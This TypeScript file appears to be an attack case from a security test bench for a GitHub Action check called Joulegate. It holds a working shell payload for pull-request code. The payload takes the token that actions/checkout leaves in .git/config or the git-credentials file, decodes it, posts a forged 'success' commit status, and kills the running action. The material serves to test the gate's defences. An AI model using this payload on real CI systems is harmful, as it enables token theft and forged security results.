import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack, Place } from '../bench/case.ts'
import { attempt } from '../bench/play.ts'
import { job, scripts, step, tried, WORKFLOW, workflow } from '../bench/scene.ts'

/** What code of the pull request does that has the rights of the runner: it needs no fault of Joulegate to decide the status. */

/** Sets the status with the token that a checkout left in this file, and ends the action, which would set it again. */
const SETTING = (place: Place, file: string): string => `t=$(cat ${file} 2>/dev/null | sed -n 's/.*[Bb]asic //p' | base64 -d | cut -d: -f2)
[ -n "$t" ] || exit 0
curl -sS -X POST -H "Authorization: Bearer $t" -H 'User-Agent: x' -H 'Accept: application/vnd.github+json' \\
  -d '{"state":"success","context":"joulegate","description":"nothing to see"}' "$(cat ${place.loot}/api)" >/dev/null
p=$PPID
while [ "$p" -gt 1 ]; do
  grep -q dist/action /proc/$p/cmdline && kill -9 $p
  p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)
done
true`

const taken = (version: string, file: (place: Place) => string): Attack => ({
  title: `sets the status with the token that checkout@${version} left, and ends the action`,
  class: 'verdict',
  isCode: true,
  needsOwnUser: true,
  base: (place) => ({
    ...scripts(place),
    [WORKFLOW]: workflow({ energy: job([{ uses: `actions/checkout@${version}` }, step(place)]) }),
  }),
  head: (place) => ({ 'build.sh': tried(place, SETTING(place, file(place))) }),
  act: async (forge, open) => {
    const { head } = open()
    const { apiUrl, repository } = forge.github
    writeFileSync(join(forge.loot, 'api'), `${apiUrl}/repos/${repository}/statuses/${head.sha}`)
    await forge.hub.run(forge.event(7))
    return undefined
  },
})

attempt([
  taken('v4', ({ loot }) => `$(cat ${loot}/runner)/widget/widget/.git/config`),
  taken('v6', ({ loot }) => `$(cat ${loot}/runner)/_temp/git-credentials-*`),
])
